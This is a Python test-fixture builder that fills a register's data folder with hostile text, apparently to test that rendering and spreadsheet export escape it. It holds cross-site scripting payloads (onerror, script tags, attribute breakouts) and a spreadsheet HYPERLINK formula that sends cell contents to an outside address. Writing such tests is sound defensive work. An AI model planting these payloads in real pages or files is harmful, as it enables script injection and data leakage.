"""A register whose every text tries to break out of its page or to run in a spreadsheet."""

from pathlib import Path

from builders import VALID, write_folder, write_rows

IMAGE = '<img src="x" onerror="window.broken = 1">'
SCRIPT = "<script>window.broken = 2</script>"
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Open")'
QUOTES = "\"Say\" 'yes' & \\ `no` *b* [c](d) {{ e }} $f$ &lt;g&gt; 😀"
CLOSING = '</div></td></tr></table></script>"\' onmouseover="window.broken = 3'
NAMES = {"alpha-ict": IMAGE, "beta-legal": FORMULA, "gamma-waste": QUOTES, "delta": CLOSING}
FOUND = "Epsilon shared services<i onclick=x>"
NAMES |= {"epsilon": FOUND}
COUNCIL = f"Ashford {SCRIPT}"
TEXTS = (IMAGE, SCRIPT, FORMULA, QUOTES, CLOSING)


def write_hostile(folder: Path) -> Path:
    """Write a data folder, valid by its contract, whose names are those above."""
    arrangements = [
        {"arrangement_id": key, "name": name, "service": CLOSING, "notes": f"{IMAGE}\n\n{SCRIPT}"}
        for key, name in NAMES.items()
    ]
    report = {"status": "achieved", "reported_on": "2014", "date_precision": "year"}
    tables = VALID | {
        "arrangements": [*arrangements],
        "members": [
            *({"arrangement_id": key, "authority_code": "ASF"} for key in NAMES),
            {"arrangement_id": "delta", "kind": "police", "name": CLOSING},
            {"arrangement_id": "beta-legal", "kind": "other", "name": FORMULA},
        ],
        "reports": [
            report | {"report_id": f"{key}-r1", "arrangement_id": key, "amount_gbp": -5_000}
            for key in NAMES
        ],
        "sources": [
            {"source_id": "src-00000001", "title": IMAGE, "publisher": SCRIPT}
            | {"url": "https://example.org/?a='\"><script>"},
            {"source_id": "src-00000002", "title": FORMULA, "publisher": QUOTES},
        ],
        "arrangement_sources": [
            {"arrangement_id": key, "source_id": source}
            for key in NAMES
            for source in ("src-00000001", "src-00000002")
        ],
        "claims": [{"claim_id": "a-claim", "claim": IMAGE, "source_title": FORMULA}],
        "audit": [],
        "authorities": [
            {"authority_code": "ASF", "name": COUNCIL, "official_name": QUOTES, "region": "London"},
            *VALID["authorities"][1:],
        ],
        "categories": [
            {"category": "ict", "label": SCRIPT, "description": CLOSING},
        ],
    }
    written = write_folder(folder, write_rows(tables))
    (written / "profiles.yml").write_text(
        f"- name: '{IMAGE}'\n  claims: [a-claim]\n  arrangements: [alpha-ict, beta-legal]\n"
        f"  why: '{SCRIPT}'\n",
        encoding="utf-8",
    )
    return written
